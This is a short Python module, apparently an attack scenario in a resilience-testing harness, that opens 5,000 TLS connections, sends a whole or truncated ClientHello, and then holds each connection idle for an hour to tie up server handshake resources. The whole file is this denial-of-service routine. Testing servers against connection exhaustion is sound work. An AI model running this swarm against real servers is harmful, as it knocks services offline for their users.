"""5,000 clients that send a ClientHello, or half of it, and then nothing."""

import asyncio
import random

from attacks.tls_garbage import client_hello
from wire import send, swarm

SECURE = True
CLIENTS = 5_000


async def client(target, connection, hello):
    await send(connection, hello if random.random() < 0.5 else hello[: len(hello) // 2])
    target.count("handshakes")
    await asyncio.sleep(3_600)


async def attack(target):
    hello = client_hello()
    await swarm(target, CLIENTS, lambda connection: client(target, connection, hello))
